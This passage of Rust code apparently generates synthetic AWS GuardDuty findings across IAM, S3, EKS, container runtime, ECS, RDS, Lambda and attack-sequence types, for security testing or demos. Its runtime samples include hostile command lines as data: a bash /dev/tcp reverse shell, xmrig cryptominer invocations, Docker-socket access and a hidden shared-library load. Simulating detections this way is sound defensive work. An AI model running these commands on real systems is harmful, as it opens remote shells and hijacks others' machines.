    let agent = rng.pick(&USER_AGENTS);
    let (kind, api, svc, base) = rng.pick(&[
        (
            "Discovery:IAMUser/AnomalousBehavior",
            "ListAttachedRolePolicies",
            "iam.amazonaws.com",
            2,
        ),
        (
            "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
            "DescribeInstances",
            "ec2.amazonaws.com",
            8,
        ),
        (
            "CredentialAccess:IAMUser/AnomalousBehavior",
            "GetSecretValue",
            "secretsmanager.amazonaws.com",
            5,
        ),
        (
            "Persistence:IAMUser/AnomalousBehavior",
            "CreateAccessKey",
            "iam.amazonaws.com",
            5,
        ),
        (
            "InitialAccess:IAMUser/AnomalousBehavior",
            "ConsoleLogin",
            "signin.amazonaws.com",
            5,
        ),
    ]);
    let apis = [
        "ListUsers",
        "ListRoles",
        "GetAccountAuthorizationDetails",
        "ListBuckets",
        "DescribeInstances",
        api,
    ];
    let anomalous = &apis[rng.index(apis.len())..];
    let category = if agent.contains("kali") {
        "KALI_LINUX"
    } else {
        "CLI"
    };
    let additional = additional_info(json!({
        "anomalies": { "anomalousAPIs": format!("{svc}:{{{}}}", anomalous.join(", ")) },
        "profiledBehavior": {
            "rareProfiledAPIsAccountProfiling": apis[..3].join(", "),
            "infrequentProfiledUserAgentsAccountProfiling": "aws-internal/3, console.amazonaws.com",
            "frequentProfiledASNsAccountProfiling": "16509",
            "rareProfiledUserAgentsUserIdentityProfiling": agent,
            "numberOfHistoricalDailyAvgAPIsUserIdentityProfiling": rng.range(20, 900).to_string(),
        },
        "unusualBehavior": {
            "isUnusualUserIdentity": rng.chance(50).to_string(),
            "unusualASNsUserIdentity": GEOS[rng.index(GEOS.len())].asn,
            "unusualUserAgentsUserIdentity": agent,
        },
        "userAgent": { "fullUserAgent": agent, "userAgentCategory": category },
    }));
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!(
            "The API {api} was invoked using credentials of {user} in an anomalous way."
        ),
        description: format!(
            "APIs commonly used in {} tactics were invoked by {user} under unusual \
             circumstances, from {ip} with user agent {agent}. Such activity is not typically \
             seen from this principal: confirm with its owner, and if it was not them, deactivate \
             the access key, revoke active sessions and review CloudTrail for what else the key \
             did.",
            purpose(kind)
        ),
        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key_details }),
        service: service(
            cx,
            "CloudTrail",
            api_call(rng, api, svc, &ip, agent),
            additional,
            Value::Null,
        ),
    }
}

fn access_key_stealth(rng: &mut Rng, cx: &Ctx) -> Body {
    let (key_details, user) = access_key(rng, cx);
    let ip = rng.public_ip();
    let (kind, api, svc, base, agent) = rng.pick(&[
        (
            "Stealth:IAMUser/CloudTrailLoggingDisabled",
            "StopLogging",
            "cloudtrail.amazonaws.com",
            2,
            USER_AGENTS[0],
        ),
        (
            "PenTest:IAMUser/KaliLinux",
            "GetCallerIdentity",
            "sts.amazonaws.com",
            5,
            USER_AGENTS[1],
        ),
        (
            "Policy:IAMUser/RootCredentialUsage",
            "DescribeRegions",
            "ec2.amazonaws.com",
            2,
            USER_AGENTS[5],
        ),
        (
            "Stealth:IAMUser/PasswordPolicyChange",
            "DeleteAccountPasswordPolicy",
            "iam.amazonaws.com",
            2,
            USER_AGENTS[2],
        ),
        (
            "UnauthorizedAccess:IAMUser/TorIPCaller",
            "ListBuckets",
            "s3.amazonaws.com",
            5,
            USER_AGENTS[6],
        ),
    ]);
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("API {api} was invoked by {user} from {ip}."),
        description: format!(
            "The API {api} of {svc} was invoked by {user} from {ip} using {agent}. Calls like \
             this one are used to evade detection or probe an account; if this was not a planned \
             change or an authorised penetration test, treat the credentials as compromised."
        ),
        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key_details }),
        service: service(
            cx,
            "CloudTrail",
            api_call(rng, api, svc, &ip, agent),
            additional_info(
                json!({ "userAgent": { "fullUserAgent": agent, "userAgentCategory": "CLI" } }),
            ),
            Value::Null,
        ),
    }
}

fn block_public_access(all: bool) -> Value {
    json!({
        "blockPublicAcls": all,
        "blockPublicPolicy": all,
        "ignorePublicAcls": all,
        "restrictPublicBuckets": all,
    })
}

fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
    let (key_details, user) = access_key(rng, cx);
    let ip = rng.public_ip();
    let (kind, api, base) = rng.pick(&[
        (
            "Policy:S3/BucketBlockPublicAccessDisabled",
            "PutBucketPublicAccessBlock",
            2,
        ),
        ("Exfiltration:S3/AnomalousBehavior", "GetObject", 8),
        ("UnauthorizedAccess:S3/TorIPCaller", "ListObjects", 5),
        ("Impact:S3/MaliciousIPCaller", "DeleteObjects", 8),
        ("Discovery:S3/AnomalousBehavior", "GetBucketPolicy", 2),
    ]);
    let public = kind.starts_with("Policy");

    let mut r = cx.resource(rng, "bucket", 12);
    let app = r.pick(&APPS);
    let purpose_name = r.pick(&["logs", "artifacts", "exports", "backups", "uploads"]);
    let bucket = format!("{app}-{purpose_name}-{}-{}", cx.account, cx.region);
    let owner = Rng::keyed(&[cx.account_seed, key("canonical-user")]).hex(64);
    let kms = Rng::keyed(&[cx.account_seed, key("kms"), key(cx.region)]).uuid();
    let bucket_details = json!({
        "arn": format!("arn:aws:s3:::{bucket}"),
        "name": bucket,
        "type": "Destination",
        "createdAt": epoch_before(&mut r, EPOCH_START, 1500),
        "owner": { "id": owner },
        "tags": tags(&mut r, &bucket, app, 5..=11),
        "defaultServerSideEncryption": {
            "encryptionType": "aws:kms",
            "kmsMasterKeyArn": cx.arn("kms", &format!("key/{kms}")),
        },
        "publicAccess": {
            "effectivePermission": if public { "PUBLIC" } else { "NOT_PUBLIC" },
            "permissionConfiguration": {
                "bucketLevelPermissions": {
                    "accessControlList": { "allowsPublicReadAccess": false, "allowsPublicWriteAccess": false },
                    "bucketPolicy": { "allowsPublicReadAccess": public, "allowsPublicWriteAccess": false },
                    "blockPublicAccess": block_public_access(!public),
                },
                "accountLevelPermissions": { "blockPublicAccess": block_public_access(false) },
            },
        },
    });
    let agent = rng.pick(&USER_AGENTS);
    let mut action = api_call(rng, api, "s3.amazonaws.com", &ip, agent);
    action["awsApiCallAction"]["affectedResources"] = json!({ "AWS::S3::Bucket": bucket });
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("{api} was called on S3 bucket {bucket} by {user}."),
        description: format!(
            "The S3 API {api} was invoked by {user} from {ip} against bucket {bucket}, in a way \
             that is unusual for this principal and bucket. Review the bucket's server access \
             logs and the CloudTrail data events for the objects that were read or changed, and \
             block the caller if the activity was not expected."
        ),
        resource: json!({
            "resourceType": "S3Bucket",
            "accessKeyDetails": key_details,
            "s3BucketDetails": [bucket_details],
        }),
        service: service(
            cx,
            "S3DataEvents",
            action,
            additional_info(json!({})),
            Value::Null,
        ),
    }
}

fn eks_audit(rng: &mut Rng, cx: &Ctx) -> Body {
    let (kind, verb, uri, base) = rng.pick(&[
        ("Discovery:Kubernetes/SuccessfulAnonymousAccess", "get", "/api/v1/namespaces/kube-system/secrets", 5),
        ("PrivilegeEscalation:Kubernetes/PrivilegedContainer", "create", "/api/v1/namespaces/default/pods", 5),
        ("Execution:Kubernetes/ExecInKubeSystemPod", "create", "/api/v1/namespaces/kube-system/pods/aws-node-7xk2p/exec?command=sh&command=-c&command=id&stdin=true", 5),
        ("Persistence:Kubernetes/ContainerWithSensitiveMount", "create", "/apis/apps/v1/namespaces/default/deployments", 5),
        ("Impact:Kubernetes/MaliciousIPCaller", "list", "/api/v1/secrets", 8),
    ]);
    let ip = rng.public_ip();
    let app = rng.pick(&APPS);
    let workload = format!("{app}-{}", rng.hex(5));
    let user = if kind.starts_with("Discovery") {
        "system:anonymous".to_owned()
    } else {
        format!(
            "arn:aws:sts::{}:assumed-role/{}/{}",
            cx.account,
            rng.pick(&ROLE_NAMES),
            rng.pick(&USER_NAMES)
        )
    };

    let mut r = cx.resource(rng, "eks", 3);
    let cluster = format!(
        "{}-{}",
        r.pick(&["prod", "staging", "shared", "ml"]),
        r.pick(&["eks", "k8s", "platform"])
    );
    let cluster_details = json!({
        "name": cluster,
        "arn": cx.arn("eks", &format!("cluster/{cluster}")),
        "createdAt": epoch_before(&mut r, EPOCH_START, 700),
        "vpcId": format!("vpc-{}", r.hex(17)),
        "status": "ACTIVE",
        "tags": tags(&mut r, &cluster, "platform", 4..=9),
    });
    let kubernetes = json!({
        "kubernetesUserDetails": {
            "username": user,
            "uid": format!("aws-iam-authenticator:{}:{}", cx.account, rng.upper(21)),
            "groups": ["system:authenticated", "system:masters"],
        },
        "kubernetesWorkloadDetails": {
            "name": workload,
            "type": "pods",
            "uid": rng.uuid(),
            "namespace": rng.pick(&["default", "kube-system", "payments", "monitoring"]),
            "hostNetwork": rng.chance(20),
            "containers": [{
                "name": "app",
                "image": format!("{}/{app}:{}", cx.ecr(), rng.hex(7)),
                "imagePrefix": cx.ecr(),
                "securityContext": { "privileged": kind.contains("Privileged") },
                "volumeMounts": [{ "name": "host-root", "mountPath": "/host" }],
            }],
            "volumes": [{ "name": "host-root", "hostPath": { "path": "/" } }],
        },
    });
    let action = json!({
        "actionType": "KUBERNETES_API_CALL",
        "kubernetesApiCallAction": {
            "requestUri": uri,
            "verb": verb,
            "sourceIps": [ip],
            "userAgent": format!("kubectl/v1.29.{} (linux/amd64) kubernetes/{}", rng.below(8), rng.hex(7)),
            "remoteIpDetails": remote_ip_details(rng, &ip),
            "statusCode": if rng.chance(80) { 200 } else { 403 },
            "parameters": "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"debug\"},\"spec\":{\"hostPID\":true}}",
        },
    });
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("Kubernetes API {verb} {uri} invoked on EKS cluster {cluster}."),
        description: format!(
            "The Kubernetes API {verb} {uri} was invoked on EKS cluster {cluster} by {user} from \
             {ip}. This API is commonly used in {} tactics. Check the cluster's audit log for the \
             rest of this user's requests and for the workload {workload} it touched.",
            purpose(kind)
        ),
        resource: json!({
            "resourceType": "EKSCluster",
            "eksClusterDetails": cluster_details,
            "kubernetesDetails": kubernetes,
        }),
        service: service(
            cx,
            "EksAuditLogs",
            action,
            additional_info(json!({})),
            Value::Null,
        ),
    }
}

fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
    let (kind, exe, command_line, base) = rng.pick(&[
        ("Execution:Runtime/NewBinaryExecuted", "/tmp/.x/kworkerd", "/tmp/.x/kworkerd -o pool.supportxmr.com:443 -u 4AdUndXHHZ9pfQj27iMAjAr --tls --cpu-max-threads-hint=75", 5),
        ("CryptoCurrency:Runtime/BitcoinTool.B!DNS", "/usr/bin/xmrig", "xmrig --donate-level 1 -o gulf.moneroocean.stream:10128 -k --coin monero", 8),
        ("Execution:Runtime/ReverseShell", "/bin/bash", "bash -c \"bash -i >& /dev/tcp/185.220.101.7/4444 0>&1\"", 8),
        ("PrivilegeEscalation:Runtime/DockerSocketAccessed", "/usr/bin/curl", "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json?all=1", 5),
        ("DefenseEvasion:Runtime/ProcessInjection.Proc", "/usr/bin/python3", "python3 -c 'import ctypes; ctypes.CDLL(\"/dev/shm/.l.so\")'", 8),
    ]);
    let domain = rng.pick(&DOMAINS);
    let pid = rng.range(300, 65_000);
    let ancestors = [
        ("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),
        ("sh", "/bin/sh"),
        ("node", "/usr/local/bin/node"),
    ];
    let lineage: Vec<Value> = ancestors
        .iter()
        .map(|(name, path)| {
            json!({
                "name": name,
                "executablePath": path,
                "pid": rng.range(1, 65_000),
                "namespacePid": rng.range(1, 300),
                "uuid": rng.uuid(),
                "parentUuid": rng.uuid(),
                "euid": 0,
                "userId": 0,
                "startTime": iso_s(cx.first_seen - 3600 - rng.secs(3 * 86_400)),
            })
        })
        .collect();
    let runtime = json!({
        "process": {
            "name": exe.rsplit('/').next().unwrap_or(exe),
            "executablePath": exe,
            "executableSha256": rng.hex(64),
            "commandLine": command_line,
            "pid": pid,
            "namespacePid": rng.range(1, 300),
            "euid": 0,
            "userId": 0,
            "user": "root",
            "pwd": rng.pick(&["/app", "/", "/tmp", "/var/www/html"]),
            "uuid": rng.uuid(),
            "parentUuid": rng.uuid(),
            "startTime": iso_s(cx.first_seen - 5),
            "lineage": lineage,
        },
        "context": {
            "commandLineExample": command_line,
            "socketPath": if kind.contains("Docker") { json!("/var/run/docker.sock") } else { Value::Null },
        },
    });
    let app = rng.pick(&APPS);
    let image = format!(
        "{}/{app}:{}.{}.{}",
        cx.ecr(),
        rng.below(5),
        rng.below(40),
        rng.below(10)
    );
    let container = json!({
        "containerRuntime": "containerd",
        "id": rng.hex(64),
        "name": app,
        "image": image,
        "imagePrefix": cx.ecr(),
        "securityContext": { "privileged": rng.chance(15), "allowPrivilegeEscalation": rng.chance(40) },
        "volumeMounts": [{ "name": "tmp", "mountPath": "/tmp" }, { "name": "config", "mountPath": "/etc/app" }],
    });
    let (instance, details) = instance(rng, cx);
    let service = with(
        service(
            cx,
            "RuntimeMonitoring",
            json!({}),
            additional_info(json!({ "domain": domain })),
            Value::Null,
        ),
        "runtimeDetails",
        runtime,
    );
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("A suspicious process {exe} ran in container {app} on instance {instance}."),
        description: format!(
            "Process {exe} (pid {pid}) ran with the command line `{command_line}` in container \
             {app} (image {image}). Runtime Monitoring flagged it because it matches {kind}; \
             check how it got into the container, replace the container from a known-good \
             image, and rotate any credentials it could read."
        ),
        resource: json!({
            "resourceType": "Container",
            "containerDetails": container,
            "instanceDetails": details,
        }),
        service,
    }
}

fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
    let mut r = cx.resource(rng, "ecs", 4);
    let app = r.pick(&APPS);
    let cluster = format!("{app}-{}", r.pick(&["prod", "staging", "batch"]));
    let cluster_tags = tags(&mut r, &cluster, app, 4..=8);
    let task = rng.hex(32);
    let started = cx.first_seen - 3600 - rng.secs(2 * 86_400);
    let threat = rng.pick(&[
        "EICAR-Test-File",
        "Linux.Trojan.Mirai",
        "Multios.Coinminer.Miner-6781728-2",
        "Unix.Malware.Kaiji",
    ]);
    let files: Vec<Value> = (0..rng.range(1, 3))
        .map(|_| {
            let name = format!("{}.bin", rng.hex(8));
            json!({
                "filePath": format!("var/lib/docker/overlay2/{}/diff/tmp/{name}", rng.hex(64)),
                "fileName": name,
                "volumeArn": cx.arn("ec2", &format!("volume/vol-{}", rng.hex(17))),
                "hash": rng.hex(64),
            })
        })
        .collect();
    let item_count = files.len();
    let resource = json!({
        "resourceType": "ECSCluster",
        "ecsClusterDetails": {
            "name": cluster,
            "arn": cx.arn("ecs", &format!("cluster/{cluster}")),
            "status": "ACTIVE",
            "activeServicesCount": rng.range(1, 40),
            "registeredContainerInstancesCount": rng.range(0, 20),
            "runningTasksCount": rng.range(1, 200),
            "tags": cluster_tags,
            "taskDetails": {
                "arn": cx.arn("ecs", &format!("task/{cluster}/{task}")),
                "definitionArn": cx.arn("ecs", &format!("task-definition/{cluster}:{}", rng.range(1, 300))),
                "version": rng.range(1, 300).to_string(),
                "createdAt": json!(started as f64 + 0.25),
                "startedAt": json!(started as f64 + 21.5),
                "startedBy": format!("ecs-svc/{}", rng.range(1_000_000_000_000_000, 9_999_999_999_999_999)),
                "containers": [{ "name": "app", "image": format!("{}/{cluster}:latest", cx.ecr()) }],
            },
        },
    });
    let scan = json!({
        "scanId": rng.hex(32),
        "scanStartedAt": cx.first_seen as f64 + 0.5,
        "scanCompletedAt": (cx.first_seen + 400) as f64 + 0.75,
        "scanType": "GUARDDUTY_INITIATED",
        "triggerFindingId": rng.hex(32),
        "sources": ["Bitdefender", "Amazon"],
        "scanDetections": {
            "scannedItemCount": { "totalGb": rng.range(1, 200), "files": rng.range(10_000, 900_000), "volumes": 1 },
            "threatsDetectedItemCount": { "files": item_count },
            "highestSeverityThreatDetails": { "severity": "HIGH", "threatName": threat, "count": item_count },
            "threatDetectedByName": {
                "itemCount": item_count,
                "uniqueThreatNameCount": 1,
                "shortened": false,
                "threatNames": [{ "name": threat, "severity": "HIGH", "itemCount": item_count, "filePaths": files }],
            },
        },
    });
    let service = with(
        service(
            cx,
            "EbsVolumeScan",
            json!({}),
            additional_info(json!({})),
            Value::Null,
        ),
        "ebsVolumeScanDetails",
        scan,
    );
    Body {
        kind: "Execution:ECS/MaliciousFile".to_owned(),
        severity: severity(rng, 8),
        title: format!(
            "{item_count} security risk(s) detected including {threat} on ECS cluster {cluster}."
        ),
        description: format!(
            "A malware scan of the volumes behind task {task} of ECS cluster {cluster} found \
             {item_count} file(s) matching {threat}. Stop the task, find out how the file got \
             into the image or the volume, and redeploy from a clean image."
        ),
        resource,
        service,
    }
}

fn rds_login(rng: &mut Rng, cx: &Ctx) -> Body {
    let (kind, base, success) = rng.pick(&[
        (
            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",
            8,
            true,
        ),
        (
            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce",
            8,
            true,
        ),
        (
            "CredentialAccess:RDS/MaliciousIPCaller.FailedLogin",
            5,
            false,
        ),
        ("Discovery:RDS/TorIPCaller", 5, false),
    ]);
    let ip = rng.public_ip();
    let user = rng.pick(&["postgres", "admin", "app_rw", "reporting_ro", "sa"]);
    let asn_org = GEOS[rng.index(GEOS.len())].asn_org;

    let mut r = cx.resource(rng, "rds", 5);
    let app = r.pick(&APPS);
    let db = format!(
        "{app}-{}",
        r.pick(&["db", "primary", "replica-1", "aurora-instance-1"])
    );
    let (engine, version) = r.pick(&[
        ("aurora-postgresql", "15.4"),
        ("postgres", "16.2"),
        ("aurora-mysql", "8.0.mysql_aurora.3.05.2"),
        ("mysql", "8.0.36"),
    ]);
    let db_tags = tags(&mut r, &db, app, 4..=9);

    let mut profile = |name: &str, value: &str| {
        json!({
            name: value,
            "failedLoginCount": if success { rng.below(5) } else { rng.range(10, 4000) },
            "successfulLoginCount": u64::from(success) * rng.range(1, 3),
            "incompleteConnectionCount": rng.below(3),
        })
    };
    let additional = additional_info(json!({
        "unusualBehavior": {
            "unusualUserNameClusterProfiling": profile("userName", user),
            "unusualASNClusterProfiling": profile("asnOrg", asn_org),
            "unusualApplicationNameClusterProfiling": profile("applicationName", "psql"),
            "unusualDatabaseNameClusterProfiling": profile("databaseName", "app"),
        },
    }));
    let action = json!({
        "actionType": "RDS_LOGIN_ATTEMPT",
        "rdsLoginAttemptAction": {
            "remoteIpDetails": remote_ip_details(rng, &ip),
            "LoginAttributes": [{
                "user": user,
                "application": rng.pick(&["psql", "DBeaver 24.0.1", "mysql", ""]),
                "failedLoginAttempts": if success { 0 } else { rng.range(10, 4000) },
                "successfulLoginAttempts": u64::from(success),
            }],
        },
    });
    let (title, sentence) = if success {
        ("Unusual successful", "An unusual successful")
    } else {
        ("Failed", "A failed")
    };
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("{title} login by {user} observed on RDS instance {db}."),
        description: format!(
            "{sentence} login by {user} from {ip} observed on RDS database instance {db} \
             ({engine} {version}) in account {}. The source address, its network ({asn_org}) or \
             the client application has not been seen logging in to this database before; \
             confirm the login with the database owner.",
            cx.account
        ),
        resource: json!({
            "resourceType": "RDSDBInstance",
            "rdsDbInstanceDetails": {
                "dbInstanceIdentifier": db,
                "engine": engine,
                "engineVersion": version,
                "dbClusterIdentifier": format!("{db}-cluster"),
                "dbInstanceArn": cx.arn("rds", &format!("db:{db}")),
                "tags": db_tags,
            },
            "rdsDbUserDetails": {
                "user": user,
                "application": "psql",
                "database": "app",
                "ssl": "true",
                "authMethod": "PASSWORD",
            },
        }),
        service: service(cx, "RdsLoginEvents", action, additional, Value::Null),
    }
}

fn lambda_network(rng: &mut Rng, cx: &Ctx) -> Body {
    let (kind, base) = rng.pick(&[
        ("Backdoor:Lambda/C&CActivity.B", 8),
        ("CryptoCurrency:Lambda/BitcoinTool.B", 8),
        ("Trojan:Lambda/BlackholeTraffic", 5),
        ("UnauthorizedAccess:Lambda/MaliciousIPCaller.Custom", 5),
    ]);
    let remote = rng.public_ip();

    let mut r = cx.resource(rng, "lambda", 15);
    let app = r.pick(&APPS);
    let function = format!(
        "{app}-{}",
        r.pick(&["handler", "worker", "authorizer", "cron"])
    );
    let role = r.pick(&ROLE_NAMES);
    let subnets: Vec<String> = (0..r.range(2, 3))
        .map(|_| format!("subnet-{}", r.hex(17)))
        .collect();
    let details = json!({
        "functionArn": cx.arn("lambda", &format!("function:{function}")),
        "functionName": function,
        "description": format!("{function}: handles {app} events for the {} team", r.pick(&TEAMS)),
        "lastModifiedAt": epoch_before(&mut r, EPOCH_START, 60),
        "revisionId": r.uuid(),
        "functionVersion": "$LATEST",
        "role": format!("arn:aws:iam::{}:role/{role}", cx.account),
        "vpcConfig": {
            "subnetIds": subnets,
            "vpcId": format!("vpc-{}", r.hex(17)),
            "securityGroups": [{ "groupName": format!("{function}-sg"), "groupId": format!("sg-{}", r.hex(17)) }],
        },
        "tags": tags(&mut r, &function, app, 5..=10),
    });
    let ephemeral = rng.range(32768, 60999);
    let port = rng.pick(&[443, 80, 3333, 4444, 8080]);
    let action = network_connection(
        rng,
        false,
        (ephemeral, "Unknown"),
        (port, "Unknown"),
        &remote,
    );
    Body {
        kind: kind.to_owned(),
        severity: severity(rng, base),
        title: format!("Lambda function {function} is communicating with a suspicious IP address."),
        description: format!(
            "Lambda function {function} (role {role}) is making outbound connections to \
             {remote}, an address on a threat list. Review the function's recent deployments and \
             dependencies for injected code, and check what its role allowed it to read."
        ),
        resource: json!({ "resourceType": "Lambda", "lambdaDetails": details }),
        service: service(
            cx,
            "LambdaNetworkLogs",
            action,
            additional_info(json!({})),
            threat_intel(rng),
        ),
    }
}

fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
    let (kind, what, apis) = rng.pick(&[
        (
            "AttackSequence:IAM/CompromisedCredentials",
            "credential compromise",
            [
                "cloudtrail:DeleteTrail",
                "iam:AttachRolePolicy",
                "iam:CreateRole",
                "iam:ListUsers",
            ],
        ),
        (
            "AttackSequence:S3/CompromisedData",
            "data compromise of one or more S3 buckets",
            [
                "s3:GetObject",
                "s3:DeleteObject",
                "s3:PutBucketPublicAccessBlock",
                "s3:ListBuckets",
            ],
        ),
        (
            "AttackSequence:EKS/CompromisedCluster",
            "compromise of an EKS cluster",
            [
                "eks:ListClusters",
                "sts:GetCallerIdentity",
                "secretsmanager:GetSecretValue",
                "iam:CreateAccessKey",
            ],
        ),
    ]);
    let mut r = cx.resource(rng, "principal", 12);
    let user = r.pick(&USER_NAMES);
    let principal = format!("AIDA{}", r.upper(17));
    let user_arn = format!("arn:aws:iam::{}:user/{user}", cx.account);
    let ip = rng.public_ip();
    let geo = &GEOS[rng.index(GEOS.len())];
    let t_ms = cx.first_seen * 1000;
    let signals: Vec<Value> = (0..rng.range(3, 5))
        .map(|i| {
            let name = rng.pick(&[
                "Discovery:IAMUser/AnomalousBehavior",
                "Stealth:IAMUser/CloudTrailLoggingDisabled",
                "Persistence:IAMUser/AnomalousBehavior",
                "Exfiltration:S3/AnomalousBehavior",
                "UnauthorizedAccess:IAMUser/TorIPCaller",
            ]);
            let at = t_ms + rng.secs(600_000) + i64::try_from(i).expect("small") * 600_000;
            json!({
                "uid": cx.arn("guardduty", &format!("detector/{}/finding/{}", cx.detector, rng.hex(32))),
                "type": "FINDING",
                "name": name,
                "description": format!("{name} observed for {user}"),
                "severity": rng.pick(&[2.0, 5.0, 8.0]),
                "count": rng.range(1, 40),
                "createdAt": at,
                "updatedAt": at + 60_000,
                "firstSeenAt": at - 30_000,
                "lastSeenAt": at + 30_000,
                "resourceIds": [user_arn],
                "actorIds": [principal],
                "endpointIds": [ip],
                "signalIndicators": [{ "key": "ATTACK_TACTIC", "title": "Tactic", "values": ["Discovery", "Persistence"] }],
            })
        })
        .collect();
    let signal_count = signals.len();
    let detection = json!({
        "sequence": {
            "uid": rng.hex(32),
            "description": format!("A sequence of actions involving {signal_count} signals indicating a possible {what} was observed for IAMUser/{user}."),
            "actors": [{
                "id": principal,
                "user": {
                    "name": user,
                    "uid": principal,
                    "type": "IAMUser",
                    "account": { "uid": cx.account, "name": format!("{}-prod", rng.pick(&TEAMS)) },
                },
                "session": {
                    "uid": format!("ASIA{}", rng.upper(16)),
                    "mfaStatus": "Disabled",
                    "createdTime": t_ms - 3_600_000,
                    "issuer": user_arn,
                },
            }],
            "resources": [{
                "uid": user_arn,
                "name": user,
                "accountId": cx.account,
                "resourceType": "IAMUser",
                "region": cx.region,
                "service": "iam",
                "cloudPartition": "aws",
            }],
            "endpoints": [{
                "id": ip,
                "ip": ip,
                "location": { "city": geo.city, "country": geo.country, "lat": geo.lat, "lon": geo.lon },
                "autonomousSystem": { "name": geo.asn_org, "number": geo.asn.parse::<u64>().unwrap_or(0) },
                "connection": { "direction": "INBOUND" },
            }],
            "signals": signals,
            "sequenceIndicators": [
                { "key": "ATTACK_TACTIC", "values": ["Persistence", "Privilege Escalation", "Defense Evasion", "Discovery", "Initial Access"] },
                { "key": "ATTACK_TECHNIQUE", "values": [
                    "T1562.008 - Impair Defenses: Disable or Modify Cloud Logs",
                    "T1098.003 - Account Manipulation: Additional Cloud Roles",
                    "T1078.004 - Valid Accounts: Cloud Accounts",
                ] },
                { "key": "HIGH_RISK_API", "values": apis },
            ],
        },
    });
    let service = with(
        service(cx, "Correlation", json!({}), json!({}), Value::Null),
        "detection",
        detection,
    );
    let severity = if rng.chance(50) {
        json!(9)
    } else {
        json!(rng.pick(&[9.0, 9.4, 10.0]))
    };
    Body {
        kind: kind.to_owned(),
        severity,
        title: format!(
            "Potential {what} indicated by a sequence of actions associated with IAMUser/{user}."
        ),
        description: format!(
            "A sequence of actions involving {signal_count} signals indicating a possible {what} \
             was observed for IAMUser/{user} with principalId {principal} in account {}\nbetween \
             eventFirstSeen and eventLastSeen with the following behaviors:\n  - 5 MITRE ATT&CK \
             tactics observed: Persistence, Privilege Escalation, Defense Evasion, Discovery, \
             Initial Access\n  - Connected from {ip} ({}, {})\n  - {} sensitive APIs called: {}\n",
            cx.account,
            geo.city,
            geo.country,
            apis.len(),
            apis.join(", ")
        ),
        resource: json!({ "resourceType": "AttackSequence" }),
        service,
    }
}
